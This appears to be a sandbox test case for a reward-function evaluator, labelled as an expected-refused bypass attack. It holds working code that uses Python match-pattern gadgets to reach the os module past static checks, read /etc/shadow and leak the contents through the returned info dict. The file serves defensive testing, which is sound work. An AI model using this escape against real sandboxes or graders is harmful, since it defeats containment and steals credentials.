# attack: static check skipped: match patterns walk to object, its subclasses, os; then read /etc/shadow
# expect: runtime
# cause: sandbox refused
# flags: bypass


def _os():
    match ():
        case object(__class__=T):
            pass
    match T:
        case object(__base__=O):
            pass
    for c in O.__subclasses__():
        match c:
            case object(__name__="_wrap_close", __init__=init):
                match init:
                    case object(__globals__=g):
                        return g


def compute_reward(s):
    os = _os()
    fd = os["open"]("/etc/shadow", 0)
    leak = os["read"](fd, 200).decode()
    z = s.qpos[:, 0] * 0.0
    return z, {leak[:50]: z}
